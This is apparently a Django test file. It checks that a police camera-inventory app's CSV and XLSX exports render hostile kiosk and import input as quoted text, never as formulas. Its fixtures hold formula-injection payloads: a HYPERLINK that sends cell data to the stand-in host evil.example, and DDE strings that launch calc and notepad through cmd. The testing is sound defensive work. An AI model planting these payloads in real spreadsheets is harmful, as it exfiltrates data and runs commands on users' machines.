"""Hostile text typed at a kiosk or imported reaches every CSV and XLSX export as text, never as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from accounts import roles
from assignments import services as assignment_services
from audit.actor import Actor
from hartford_bwc.factories import CameraFactory, DeviceFactory, KioskFactory, OfficerFactory, VehicleFactory
from hartford_bwc.testing import sign_in

pytestmark = pytest.mark.django_db

# The values of the issue: a kiosk user's damage report, imported serials, batches and names.
DAMAGE = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'
SERIAL = "=1+2"
BATCH = "=cmd|' /C calc'!A0"
FIRST_NAME = "@SUM(A1:A9)"
LAST_NAME = "-2+3"
REASON = '+cmd|"/C notepad"!A1'  # typed by staff, shown in the audit log


@pytest.fixture
def hostile(staff_actor):
    """A camera imported with a formula serial and batch, taken by a formula-named officer, returned damaged."""
    camera = CameraFactory(asset_tag="HPD-BWC-0666", serial_number=SERIAL, purchase_batch=BATCH)
    officer = OfficerFactory(badge_number="4666", first_name=FIRST_NAME, last_name=LAST_NAME)
    assignment_services.check_out(camera=camera, officer=officer, by=Actor.system_process("tests"))
    # Returns need no sign-in: anyone at the kiosk can type the description.
    assignment_services.check_in(
        camera=camera, by=Actor.at_kiosk(KioskFactory()), condition="damaged", damage_description=DAMAGE
    )
    # A signal device imported with the same serial, in stock; a vehicle with a formula fleet number.
    DeviceFactory(asset_tag="HPD-SIG-0666", serial_number=SERIAL, purchase_batch=BATCH)
    VehicleFactory(unit_number="666", fleet_number=BATCH)
    assignment_services.set_officer_active(officer=officer, active=False, by=staff_actor, reason=REASON)
    return camera


@pytest.fixture
def quartermaster(client):
    sign_in(client, roles.QUARTERMASTER)
    return client


EXPORTS = [
    ("/inventory/cameras/?", {SERIAL, BATCH}),
    ("/inventory/devices/?", {SERIAL}),
    ("/inventory/vehicles/?", {BATCH}),
    ("/assignments/officers/?", {f"{LAST_NAME}, {FIRST_NAME}"}),  # the name column is "last, first"
    ("/reports/maintenance/?_table=open&", {DAMAGE}),
    ("/reports/camera-custody/?asset_tag=HPD-BWC-0666&_table=custody&", {DAMAGE}),
    ("/reports/camera-custody/?asset_tag=HPD-BWC-0666&_table=maintenance&", {DAMAGE}),
    ("/reports/officer-history/?badge=4666&_table=checkouts&", {DAMAGE}),
    ("/reports/audit-log/?", {REASON}),
]


def _cells(rows) -> list:
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(("url", "expected"), EXPORTS)
def test_csv_export_quotes_every_formula_like_cell(hostile, quartermaster, url, expected):
    response = quartermaster.get(f"{url}_export=csv")

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.getvalue()  # a streamed CSV is read once
    assert body.startswith(b"\xef\xbb\xbf"), "a UTF-8 BOM, so that Excel reads the accents right"
    cells = _cells(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in expected:
        assert "'" + value in cells


@pytest.mark.parametrize(("url", "expected"), EXPORTS)
def test_xlsx_export_holds_text_cells_never_formulas(hostile, quartermaster, url, expected):
    response = quartermaster.get(f"{url}_export=xlsx")

    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets), "no formula element"
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    cells = _cells(sheet.iter_rows())
    assert all(cell.data_type != "f" for cell in cells)
    by_value = {cell.value: cell for cell in cells}
    for value in expected:
        # The text exactly as typed, as a string cell that Excel keeps as text even when edited.
        assert by_value[value].data_type == "s"
        assert by_value[value].quotePrefix


def test_the_camera_export_keeps_the_typed_values_whole(hostile, quartermaster):
    rows = list(
        csv.DictReader(io.StringIO(quartermaster.get("/inventory/cameras/?_export=csv").getvalue().decode("utf-8-sig")))
    )
    [row] = rows
    assert row["Serial"] == "'=1+2" and row["Batch"] == "'=cmd|' /C calc'!A0"
    assert row["Asset tag"] == "HPD-BWC-0666"


@pytest.mark.parametrize("fmt", ["tsv", "json", "ods", "yaml", "latex", "xls"])
def test_the_camera_list_offers_no_other_export_format(hostile, quartermaster, fmt):
    # django-tables2's own export answered these through tablib, formulas untouched.
    response = quartermaster.get("/inventory/cameras/", {"_export": fmt})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_accented_names_survive_the_csv_export(quartermaster):
    OfficerFactory(badge_number="5001", first_name="José", last_name="Núñez")

    response = quartermaster.get("/assignments/officers/?_export=csv")

    body = response.getvalue()  # a streamed CSV is read once
    assert body.startswith("\ufeff".encode())
    assert "Núñez, José" in body.decode("utf-8-sig")
